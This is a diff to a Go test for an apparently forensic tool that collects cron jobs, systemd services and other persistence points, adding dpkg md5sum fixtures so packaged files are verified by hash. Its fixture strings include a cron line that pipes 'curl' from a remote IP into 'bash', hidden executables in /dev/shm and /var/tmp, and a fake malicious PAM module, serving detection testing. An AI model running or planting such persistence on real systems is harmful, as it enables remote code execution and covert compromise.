@@ -2,6 +2,8 @@ package collectors_test
 
 import (
 	"context"
+	"crypto/md5"
+	"encoding/hex"
 	"os"
 	"path/filepath"
 	"strings"
@@ -14,10 +16,11 @@ import (
 )
 
 func TestScheduleIsOneTableOfAllForms(t *testing.T) {
+	const tidy = "#!/bin/sh\nset -e\n/dev/shm/.x/run &\n"
 	root := collectorstest.Root(t, map[string]string{
 		"etc/crontab":                            "SHELL=/bin/sh\n17 * * * * root cd / && run-parts /etc/cron.hourly\n",
 		"etc/cron.d/evil":                        "* * * * * root curl -s http://203.0.113.1/x | bash\n",
-		"etc/cron.daily/tidy":                    "#!/bin/sh\nset -e\n/dev/shm/.x/run &\n",
+		"etc/cron.daily/tidy":                    tidy,
 		"var/spool/cron/crontabs/www-data":       "@reboot /var/tmp/.cache/a\n",
 		"var/spool/cron/atjobs/a0000101b8c7a4":   "#!/bin/sh\n# atrun uid=1000 gid=1000\ncd / || {\n exit 1\n}\necho later\n",
 		"etc/systemd/system/x.service":           "[Service]\nUser=www-data\nExecStart=/opt/.x/run\n[Install]\nWantedBy=multi-user.target\n",
@@ -29,6 +32,9 @@ func TestScheduleIsOneTableOfAllForms(t *testing.T) {
 		"etc/logrotate.d/a":                      "/var/log/a {\n postrotate\n  /tmp/x\n endscript\n}\n",
 		"usr/lib/security/pam_evil.so":           "\x7fELF",
 		"etc/apt/apt.conf.d/99x":                 "APT::Update::Pre-Invoke {\"/bin/true\";};\n",
+		"var/lib/dpkg/status":                    "Package: cron\nStatus: install ok installed\nVersion: 1\nArchitecture: all\n",
+		"var/lib/dpkg/info/cron.list":            "/.\n/etc/crontab\n/etc/cron.daily/tidy\n/etc/cron.d/evil\n",
+		"var/lib/dpkg/info/cron.md5sums":         textMD5(tidy) + "  etc/cron.daily/tidy\n" + textMD5("as it came\n") + "  etc/cron.d/evil\n",
 	})
 	wants := filepath.Join(root, "etc/systemd/system/multi-user.target.wants")
 	if err := os.MkdirAll(wants, 0o755); err != nil {
@@ -42,7 +48,6 @@ func TestScheduleIsOneTableOfAllForms(t *testing.T) {
 		t.Fatal(err)
 	}
 	env := collectors.NewEnv(root, quiet())
-	env.Packaged = func(path string) bool { return path == "/etc/cron.daily/tidy" || path == "/etc/crontab" }
 	sink := &collectorstest.Sink{}
 	step := profiles.Step{Name: "state", Collector: profiles.Schedule, Files: []profiles.Role{
 		{Name: "crontab", Path: []string{"/etc/crontab", "/etc/cron.d/*"}}, {Name: "cron-script", Path: []string{"/etc/cron.daily/*"}},
@@ -96,4 +101,9 @@ func hasRow(table string, words []string) bool {
 		}
 	}
 	return false
+}
+
+func textMD5(text string) string {
+	sum := md5.Sum([]byte(text))
+	return hex.EncodeToString(sum[:])
 }
